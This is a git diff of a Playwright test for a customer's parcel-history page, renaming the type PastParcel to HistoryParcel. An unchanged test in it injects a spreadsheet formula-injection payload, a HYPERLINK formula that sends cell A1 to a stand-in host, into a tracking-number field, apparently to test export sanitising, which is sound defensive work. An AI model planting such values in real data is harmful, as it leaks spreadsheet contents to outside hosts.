@@ -1,5 +1,5 @@
 import { readFile } from 'node:fs/promises';
-import type { PastParcel } from '../../shared/contracts/parcel-history.ts';
+import type { HistoryParcel } from '../../shared/contracts/parcel-history.ts';
 import { expectAccessible, expectNoSidewaysScroll } from './checks.ts';
 import { expect, signIn, test } from './fixtures.ts';
 import { createFreshCustomer } from './fresh-customer.ts';
@@ -218,7 +218,7 @@ test.describe('a customer with hundreds of past packages', () => {
     const whole = await openHistory(page, '?sort=price&direction=descending&size=5');
     await page.route(HISTORY, async (route) => {
       const response = await route.fetch();
-      const [first, ...rest]: PastParcel[] = await response.json();
+      const [first, ...rest]: HistoryParcel[] = await response.json();
       const shippingTrackingNum = '=HYPERLINK("https://x.example?"&A1)';
       await route.fulfill({ response, json: [{ ...first, shippingTrackingNum }, ...rest] });
     });
